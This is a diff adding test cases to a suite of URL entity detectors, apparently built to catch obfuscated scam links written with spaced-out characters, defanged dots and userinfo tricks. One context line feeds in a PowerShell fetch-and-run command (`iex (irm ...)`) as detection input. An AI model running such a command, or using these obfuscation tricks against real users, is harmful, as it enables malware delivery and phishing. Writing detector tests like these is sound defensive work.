@@ -240,6 +240,12 @@ describe("entity detectors", () => {
     expect(values("iex (irm 'fonti[.]lv/i.ps1')", "url")).toEqual(["fonti.lv/i.ps1"]);
     expect(values("discord . gg / 7hK2pQ", "url")).toEqual(["discord.gg/7hK2pQ"]);
     expect(values("fiverr点com点secure点cn", "url")).toEqual(["fiverr.com.secure.cn"]);
+    // typed one character at a time: read without the spaces, as a spaced host
+    const spacedOut = entities("go to f i v e r r - h e l p . c o m to appeal", "url");
+    expect(spacedOut.map((e) => [e.value, e.spaced])).toEqual([["fiverr-help.com", true]]);
+    expect(values("b i t . l y / 3 x Y z", "url")).toEqual(["bit.ly/3xYz"]);
+    expect(values("c o m p a n y . c o m y", "url")).toEqual(["company.com"]); // a one-letter word after the run
+    expect(values("grades A . B . C . D", "url")).toEqual([]);
     const userinfo = entities("fiverr.com@login-lv.info/gig/9921", "url");
     expect(userinfo.map((e) => [e.detail, e.userinfo])).toEqual([["login-lv.info", "fiverr.com"]]);
     expect(values("v2.14.3 of Node.js, file tracker_fix.zip and setup.exe", "url")).toEqual([]);
